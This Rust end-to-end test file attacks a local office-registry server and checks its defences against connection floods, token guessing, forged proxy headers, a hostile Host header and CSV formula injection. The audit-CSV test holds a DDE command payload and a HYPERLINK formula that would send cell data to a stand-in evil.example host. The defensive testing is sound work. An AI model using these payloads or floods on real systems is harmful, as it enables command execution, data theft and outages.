//! Attacks on the real binary, made as an anonymous client (or a guesser with a real token
//! id) would make them, each with the defence that holds against it. SECURITY.md lists the
//! limits and what each protects; `scripts/attack.sh` runs the same attacks under load.
//!
//! Every wait here is for a condition (a closed socket, an answer); the bounds on those
//! waits only catch a server that never does the right thing.

use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, TcpStream};
use std::time::Duration;

use e2e::{create_token, json, Client, Reply, Server};
use testkit::reference_data_dir;

fn data() -> String {
    reference_data_dir().to_str().unwrap().to_string()
}

/// A client whose connections come from `127.0.0.N`, another client address on loopback.
fn client_from(n: u8) -> Client {
    Client::builder()
        .local_address(IpAddr::V4(Ipv4Addr::new(127, 0, 0, n)))
        .timeout(Duration::from_secs(30))
        .build()
        .unwrap()
}

/// Reads until the server closes the connection; what it sent first. Panics if the server
/// keeps it open for `bound` (a server with no deadline would keep it forever).
fn read_until_closed(stream: &mut TcpStream, bound: Duration) -> Vec<u8> {
    stream.set_read_timeout(Some(bound)).unwrap();
    let mut received = Vec::new();
    let mut buffer = [0u8; 4096];
    loop {
        match stream.read(&mut buffer) {
            Ok(0) => return received,
            Ok(n) => received.extend_from_slice(&buffer[..n]),
            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => return received,
            Err(e) => panic!("the server kept a connection open that should be closed ({e}); got {received:?}"),
        }
    }
}

#[test]
fn silent_preface_only_and_half_sent_connections_are_closed() {
    let server = Server::start_with(&["--data", &data(), "--header-read-timeout", "1", "--idle-timeout", "1"], &[]);
    let openings: [(&str, &[u8]); 3] = [
        ("nothing at all", b""),
        ("only the HTTP/2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        ("half a request head", b"GET /healthz HTTP/1.1\r\nHost: x\r\n"),
    ];
    for (what, opening) in openings {
        let mut stream = TcpStream::connect(server.addr()).unwrap();
        stream.write_all(opening).unwrap();
        let answer = read_until_closed(&mut stream, Duration::from_secs(60));
        assert!(!String::from_utf8_lossy(&answer).contains("200 OK"), "{what}: {answer:?}");
    }
}

#[test]
fn an_idle_keep_alive_connection_is_closed_after_its_answer() {
    let server = Server::start_with(&["--data", &data(), "--idle-timeout", "1"], &[]);
    let mut stream = TcpStream::connect(server.addr()).unwrap();
    stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n").unwrap();
    let answer = String::from_utf8_lossy(&read_until_closed(&mut stream, Duration::from_secs(60))).into_owned();
    assert!(answer.starts_with("HTTP/1.1 200"), "answered first, then closed: {answer}");
}

#[test]
fn a_thousand_silent_sockets_with_few_descriptors_do_not_stop_the_health_probe() {
    // 256 descriptors: the default cap is then 192 connections, 64 per client.
    let server = Server::start_with_nofile(256, &["--data", &data(), "--header-read-timeout", "60"], &[]);
    let regular = client_from(3);
    assert_eq!(Reply::from(regular.get(server.url("/healthz")).send().unwrap()).status, 200);

    let mut held = Vec::new();
    for _ in 0..1000 {
        if let Ok(stream) = TcpStream::connect(server.addr()) {
            held.push(stream);
        }
    }
    // Another client, and a client the server already had, are still answered.
    let probe = client_from(2);
    for client in [&probe, &regular] {
        for _ in 0..5 {
            let reply = Reply::from(client.get(server.url("/healthz")).send().expect("the probe is answered"));
            assert_eq!(reply.status, 200);
        }
    }
    let metrics = Reply::from(probe.get(server.url("/metrics")).send().unwrap()).text;
    let refused = metrics
        .lines()
        .find(|l| l.starts_with("hue_map_connections_refused_total{reason=\"max_connections_per_client\"}"))
        .unwrap_or_else(|| panic!("the refusals are counted:\n{metrics}"));
    let count: f64 = refused.rsplit(' ').next().unwrap().parse().unwrap();
    assert!(count >= 900.0, "{refused}");
    drop(held);
}

#[test]
fn the_server_recovers_when_it_runs_out_of_descriptors() {
    // A cap above the descriptors: accept itself fails (EMFILE) while the sockets are held.
    let server = Server::start_with_nofile(
        128,
        &[
            "--data",
            &data(),
            "--max-connections",
            "10000",
            "--max-connections-per-client",
            "10000",
            "--header-read-timeout",
            "5",
        ],
        &[],
    );
    let held: Vec<TcpStream> = (0..400).filter_map(|_| TcpStream::connect(server.addr()).ok()).collect();
    assert!(held.len() > 100);
    drop(held);
    // Once descriptors are free again, the accept loop (which backed off) takes clients.
    let client = client_from(2);
    let answered = (0..600).find_map(|_| match client.get(server.url("/healthz")).send() {
        Ok(reply) => Some(reply.status().as_u16()),
        Err(_) => {
            std::thread::sleep(Duration::from_millis(100));
            None
        }
    });
    assert_eq!(answered, Some(200), "the server never took a client again");
}

#[test]
fn wrong_secrets_for_a_real_token_id_cost_little_and_lock_no_one_out() {
    // Room for 400 connections from this one address, so every guess reaches the token check.
    let server = Server::start_with(&["--data", &data(), "--max-connections-per-client", "1000"], &[]);
    let token = create_token(&server.store(), "admin", &[], "attacked admin");
    let id_part = &token[..token.rfind('_').unwrap()];
    let before = server.memory_kib("VmRSS");

    let answers: Vec<u16> = std::thread::scope(|scope| {
        let workers: Vec<_> = (0..400)
            .map(|i| {
                let server = &server;
                let wrong = format!("{id_part}_{:064x}", i + 1);
                scope.spawn(move || {
                    let reply = server.send(
                        "POST",
                        "/api/v1/offices",
                        &[("authorization", &format!("Bearer {wrong}"))],
                        Some(&json!({})),
                    );
                    reply.status
                })
            })
            .collect();
        workers.into_iter().map(|w| w.join().unwrap()).collect()
    });
    assert!(answers.iter().all(|s| *s == 401 || *s == 429), "{answers:?}");
    assert!(answers.contains(&429), "a guesser is told to wait");
    let peak = server.memory_kib("VmHWM");
    assert!(peak < before + 256 * 1024, "RSS went from {before} KiB to a peak of {peak} KiB");
    assert_eq!(server.get("/healthz").status, 200);

    // The holder of the real token, from the same address, is let in.
    let mine = server.send(
        "POST",
        "/api/v1/offices/import?dry_run=true&reason=check",
        &[("authorization", &format!("Bearer {token}"))],
        None,
    );
    assert_ne!(mine.status, 401, "{}", mine.text);
    assert_ne!(mine.status, 429, "a correct token is never refused for others' failures: {}", mine.text);
}

#[test]
fn a_flood_of_print_pages_leaves_the_probe_and_lookups_answering_in_bounded_memory() {
    // Each print page draws a map and a QR code: CPU work an anonymous client can ask for
    // again and again, never sending If-None-Match. 48 clients ask for 6 pages each.
    let server = Server::start_with(&["--data", &data(), "--max-connections-per-client", "1000"], &[]);
    let before = server.memory_kib("VmRSS");
    let probe = client_from(2);
    let (pages, probes) = std::thread::scope(|scope| {
        let flood: Vec<_> = (0..48)
            .map(|i| {
                let server = &server;
                scope.spawn(move || {
                    (0..6)
                        .map(|j| {
                            let path = match (i + j) % 3 {
                                0 => "/print/communes/19753",
                                1 => "/print/communes/19774?lang=en",
                                _ => "/print/offices/seat-19777",
                            };
                            server.get(path).status
                        })
                        .collect::<Vec<u16>>()
                })
            })
            .collect();
        // While it runs, another client's probe and lookup are answered.
        let mut probes = 0;
        loop {
            let health = Reply::from(probe.get(server.url("/healthz")).send().expect("the probe is answered"));
            assert_eq!(health.status, 200, "{}", health.text);
            let located =
                Reply::from(probe.get(server.url("/api/v1/locate?lon=107.58&lat=16.46")).send().expect("answered"));
            assert_eq!(located.status, 200, "{}", located.text);
            probes += 1;
            if flood.iter().all(|worker| worker.is_finished()) {
                break;
            }
        }
        let pages: Vec<u16> = flood.into_iter().flat_map(|worker| worker.join().unwrap()).collect();
        (pages, probes)
    });
    // Every page is drawn, or shed with a 503 when the queue is full; never an error.
    assert!(pages.iter().all(|s| *s == 200 || *s == 503), "{pages:?}");
    assert!(pages.contains(&200));
    assert!(probes >= 1);
    let peak = server.memory_kib("VmHWM");
    assert!(peak < before + 256 * 1024, "RSS went from {before} KiB to a peak of {peak} KiB");
}

#[test]
fn a_correct_token_works_after_many_failures_from_its_address() {
    let server = Server::start_with(&["--data", &data()], &[]);
    let token = create_token(&server.store(), "admin", &[], "admin behind the city proxy");
    let mut last = 0;
    for i in 0..25 {
        let wrong = format!("hmt_{:012x}_{:064x}", i, i);
        last = server.send("GET", "/api/v1/reports", &[("authorization", &format!("Bearer {wrong}"))], None).status;
    }
    assert_eq!(last, 429, "25 failures from one address are throttled");
    let reply = server.send("GET", "/api/v1/reports", &[("authorization", &format!("Bearer {token}"))], None);
    assert_eq!(reply.status, 200, "{}", reply.text);
}

#[test]
fn only_a_trusted_proxy_may_name_the_client() {
    // Behind a trusted proxy (here, loopback), each forwarded client has its own counts.
    let server = Server::start_with(&["--data", &data(), "--trusted-proxy", "127.0.0.0/8"], &[]);
    let fail = |forwarded_for: &str, n: usize| {
        let mut status = 0;
        for i in 0..n {
            let wrong = format!("hmt_{:012x}_{:064x}", i, i);
            status = server
                .send(
                    "GET",
                    "/api/v1/reports",
                    &[("authorization", &format!("Bearer {wrong}")), ("x-forwarded-for", forwarded_for)],
                    None,
                )
                .status;
        }
        status
    };
    assert_eq!(fail("203.0.113.7", 25), 429);
    assert_eq!(fail("203.0.113.8", 1), 401, "another client behind the same proxy is not throttled");

    // Without --trusted-proxy, the header is ignored: all of it is one client.
    let direct = Server::start_with(&["--data", &data()], &[]);
    for i in 0..25 {
        let wrong = format!("hmt_{:012x}_{:064x}", i, i);
        let forged = format!("198.51.100.{i}");
        direct.send(
            "GET",
            "/api/v1/reports",
            &[("authorization", &format!("Bearer {wrong}")), ("x-forwarded-for", &forged)],
            None,
        );
    }
    let wrong = format!("hmt_{:012x}_{:064x}", 99, 99);
    let status = direct
        .send(
            "GET",
            "/api/v1/reports",
            &[("authorization", &format!("Bearer {wrong}")), ("x-forwarded-for", "192.0.2.200")],
            None,
        )
        .status;
    assert_eq!(status, 429, "a forged X-Forwarded-For does not escape the limit");
}

#[test]
fn the_atom_feed_ignores_a_hostile_host() {
    let server = Server::shared();
    let reply = server.send(
        "GET",
        "/api/v1/offices/changes.atom",
        &[("host", "evil.example"), ("x-forwarded-proto", "javascript")],
        None,
    );
    assert_eq!(reply.status, 200);
    assert!(!reply.text.contains("evil.example") && !reply.text.contains("javascript"), "{}", reply.text);
    roxmltree::Document::parse(&reply.text).expect("well-formed XML");

    let public = Server::start_with(&["--data", &data(), "--public-url", "https://maps.example.vn/"], &[]);
    let feed = public.send("GET", "/api/v1/offices/changes.atom?limit=1", &[("host", "evil.example")], None).text;
    assert!(feed.contains("<id>https://maps.example.vn/api/v1/offices/changes.atom</id>"), "{feed}");
    assert!(!feed.contains("evil.example"));
}

#[test]
fn audit_csv_cells_cannot_be_formulas() {
    let server = Server::start_with(&["--data", &data()], &[]);
    let token = create_token(&server.store(), "admin", &[], "=cmd|' /C calc'!A0");
    let office = server.get("/api/v1/offices/seat-19753");
    let etag = office.headers["etag"].to_str().unwrap().to_string();
    let patched = server.send(
        "PATCH",
        "/api/v1/offices/seat-19753",
        &[("authorization", &format!("Bearer {token}")), ("if-match", &etag)],
        Some(&json!({ "phone": "0234 3822 123", "reason": "=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")" })),
    );
    assert_eq!(patched.status, 200, "{}", patched.text);
    let csv = server.send("GET", "/api/v1/audit?f=csv", &[("authorization", &format!("Bearer {token}"))], None);
    assert_eq!(csv.status, 200, "{}", csv.text);
    let mut reader = csv::Reader::from_reader(csv.text.as_bytes());
    let row = reader.records().next().expect("the edit is audited").unwrap();
    let cells: Vec<&str> = row.iter().collect();
    assert!(cells.contains(&"'=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")"), "{cells:?}");
    assert!(cells.contains(&"'=cmd|' /C calc'!A0"), "{cells:?}");
    assert!(cells.iter().all(|c| !c.starts_with(['=', '+', '-', '@'])), "{cells:?}");
}

#[test]
fn noncharacters_duplicate_keys_and_long_urls_are_refused_by_name() {
    let server = Server::shared();
    let token = create_token(&server.store(), "admin", &[], "admin");
    let auth = format!("Bearer {token}");
    let post = |body: &str| {
        Reply::from(
            server
                .client
                .post(server.url("/api/v1/offices"))
                .header("authorization", &auth)
                .header("content-type", "application/json")
                .body(body.to_string())
                .send()
                .unwrap(),
        )
    };
    let office = json!({
        "kind": "post_office", "name": "Bưu cục \u{FFFF}", "address": "1 Lê Lợi",
        "lon": 107.585, "lat": 16.464, "position_precision": "geocoded", "reason": "test"
    });
    let refused = post(&office.to_string());
    let detail = refused.expect_problem(422);
    assert!(detail.contains("name") && detail.contains("U+FFFF"), "{detail}");

    let twice = r#"{"kind":"post_office","lat":16.464,"lat":10.8,"reason":"x"}"#;
    let detail = post(twice).expect_problem(400);
    assert!(detail.contains("\"lat\" appears twice"), "{detail}");

    let csv_twice = "id,kind,name,address,lon,lat,position_precision,lat\n";
    let reply = Reply::from(
        server
            .client
            .post(server.url("/api/v1/offices/import?reason=x"))
            .header("authorization", &auth)
            .header("content-type", "text/csv")
            .body(csv_twice)
            .send()
            .unwrap(),
    );
    assert!(reply.expect_problem(400).contains("\"lat\" appears twice"));

    let long = format!("/api/v1/search?q={}", "a".repeat(20_000));
    let detail = server.get(&long).expect_problem(414);
    assert!(detail.contains("8192"), "{detail}");
}

#[test]
fn a_retried_create_with_the_same_idempotency_key_creates_one_office() {
    let server = Server::start_with(&["--data", &data()], &[]);
    let token = create_token(&server.store(), "admin", &[], "admin");
    let office = json!({
        "kind": "post_office", "name": "Bưu cục thử", "address": "1 Lê Lợi",
        "lon": 107.585, "lat": 16.464, "position_precision": "geocoded", "reason": "a retried request"
    });
    let send = |key: &str, body: &serde_json::Value| {
        Reply::from(
            server
                .client
                .post(server.url("/api/v1/offices"))
                .header("authorization", format!("Bearer {token}"))
                .header("idempotency-key", key)
                .json(body)
                .send()
                .unwrap(),
        )
    };
    let first = send("7d9c1a40-retry", &office);
    assert_eq!(first.status, 201, "{}", first.text);
    let again = send("7d9c1a40-retry", &office);
    assert_eq!(again.status, 201);
    assert_eq!(again.json["id"], first.json["id"], "the same office, not a second one");
    assert_eq!(again.headers["idempotent-replayed"], "true");
    let count = |server: &Server| server.get("/api/v1/offices?kind=post_office").json["count"].as_u64().unwrap();
    assert_eq!(count(&server), 1);

    let mut other = office.clone();
    other["name"] = json!("Bưu cục khác");
    let reused = send("7d9c1a40-retry", &other);
    assert!(reused.expect_problem(422).contains("Idempotency-Key"));
    assert_eq!(send("another-key", &other).status, 201);
    assert_eq!(count(&server), 2);
}

#[test]
fn a_write_refused_for_a_locked_store_is_not_written_later() {
    let server = Server::start_with(&["--data", &data()], &[]);
    let token = create_token(&server.store(), "admin", &[], "admin");
    let office = |name: &str| {
        json!({
            "kind": "post_office", "name": name, "address": "1 Lê Lợi",
            "lon": 107.585, "lat": 16.464, "position_precision": "geocoded", "reason": "during a lock"
        })
    };
    let post = |body: serde_json::Value| {
        Reply::from(
            server
                .client
                .post(server.url("/api/v1/offices"))
                .header("authorization", format!("Bearer {token}"))
                .json(&body)
                .send()
                .unwrap(),
        )
    };
    // Another process holds the file's write lock, as a long backup or a stuck tool would.
    let path = server.store_dir.path().join("registry.db");
    let holder = rusqlite::Connection::open(&path).unwrap();
    holder.execute_batch("BEGIN EXCLUSIVE").unwrap();
    let replies: Vec<Reply> = std::thread::scope(|scope| {
        let posts: Vec<_> = (0..9).map(|i| scope.spawn(move || post(office(&format!("Bưu cục {i}"))))).collect();
        posts.into_iter().map(|p| p.join().unwrap()).collect()
    });
    for reply in &replies {
        let detail = reply.expect_problem(503);
        assert!(detail.contains("cannot be"), "the store's refusal, not a cut request: {detail}");
        assert!(reply.headers.contains_key("retry-after"));
    }
    holder.execute_batch("ROLLBACK").unwrap();
    drop(holder);
    // Every refused write ended with its answer: none is waiting to commit. A new one does.
    assert_eq!(post(office("Bưu cục sau")).status, 201);
    let names: Vec<String> = server.get("/api/v1/offices?kind=post_office").json["offices"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["name"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(names, ["Bưu cục sau"]);
}

#[test]
fn restore_waits_for_the_servers_and_keeps_revocations_made_after_the_backup() {
    let dir = tempfile::tempdir().unwrap();
    let store = format!("sqlite:{}", dir.path().join("registry.db").display());
    let args = ["--data", &data(), "--store", &store];
    let server = Server::start_with(&args, &[]);
    let leaver = create_token(&store, "admin", &[], "leaver");
    let backup = dir.path().join("backup.db");
    assert!(e2e::run(&["backup", backup.to_str().unwrap(), "--store", &store]).status.success());
    let bearer = format!("Bearer {leaver}");
    // An edit after the backup: a mirror of the feed reads it, and the restore will undo it.
    let seat = server.get("/api/v1/offices/seat-19753");
    let etag = seat.headers["etag"].to_str().unwrap().to_string();
    let edit = json!({ "phone": "0234 3822 123", "reason": "after the backup" });
    let edited = server.send(
        "PATCH",
        "/api/v1/offices/seat-19753",
        &[("authorization", &bearer), ("if-match", &etag)],
        Some(&edit),
    );
    assert_eq!(edited.status, 200, "{}", edited.text);
    let mirrored = server.get("/api/v1/offices/changes?since=0&limit=1000");
    let (mirror_at, epoch) = (mirrored.json["next_since"].as_u64().unwrap(), mirrored.json["epoch"].clone());
    assert_eq!(server.send("GET", "/api/v1/reports", &[("authorization", &bearer)], None).status, 200);
    let id = leaver.split('_').nth(1).unwrap();
    let revoked = e2e::run(&["token", "revoke", id, "--store", &store, "--data", &data()]);
    assert!(revoked.status.success(), "{}", String::from_utf8_lossy(&revoked.stderr));
    // At once: the very next request is refused (no cache trusts the token a moment longer).
    assert_eq!(server.send("GET", "/api/v1/reports", &[("authorization", &bearer)], None).status, 401);

    let refused = e2e::run(&["restore", backup.to_str().unwrap(), "--store", &store]);
    assert!(!refused.status.success());
    let said = String::from_utf8_lossy(&refused.stderr);
    assert!(said.contains("in use") && said.contains("--force"), "{said}");
    assert_eq!(server.get("/healthz").status, 200, "the server goes on");
    drop(server);

    let restored = e2e::run(&["restore", backup.to_str().unwrap(), "--store", &store]);
    let said = String::from_utf8_lossy(&restored.stdout);
    assert!(restored.status.success(), "{said}{}", String::from_utf8_lossy(&restored.stderr));
    assert!(said.contains("1 token revocation(s)") && said.contains("new epoch"), "{said}");
    let again = Server::start_with(&args, &[]);
    let reply = again.send("GET", "/api/v1/reports", &[("authorization", &bearer)], None);
    assert_eq!(reply.status, 401, "revoked after the backup, still revoked: {}", reply.text);
    // The mirror is told to start again, whether or not it sends its epoch.
    let epoch = epoch.as_str().unwrap();
    let detail = again.get(&format!("/api/v1/offices/changes?since={mirror_at}")).expect_problem(409);
    assert!(detail.contains("undone"), "{detail}");
    let detail = again.get(&format!("/api/v1/offices/changes?since=0&epoch={epoch}")).expect_problem(409);
    assert!(detail.contains("restored"), "{detail}");
}
